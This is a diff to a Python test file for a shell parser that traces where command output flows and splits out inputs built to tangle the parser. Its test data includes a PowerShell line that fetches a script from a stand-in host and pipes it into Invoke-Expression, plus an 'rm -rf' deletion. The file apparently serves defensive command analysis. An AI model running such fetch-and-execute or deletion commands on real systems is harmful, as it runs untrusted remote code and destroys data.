@@ -168,3 +168,10 @@ def test_windows_pipes_and_brackets_say_where_output_goes() -> None:
     assert command(script, "invoke-webrequest").into == ("invoke-expression",)
     script = parse_shell("iwr http://x.test | iex", "powershell")
     assert command(script, "invoke-webrequest").into == ("invoke-expression",)
+
+
+@pytest.mark.parametrize("unit", ["a@", "&amp;", "[[ a ]] ", "with a as (", "a|", "<<E\n"])
+def test_scripts_that_would_tangle_the_parser_are_split_and_reported(unit: str) -> None:
+    script = parse_shell("rm -rf /tmp/a\n" + unit * (40_000 // len(unit)))
+    assert script.opaque
+    assert command(script, "rm").words == ("-rf", "/tmp/a")
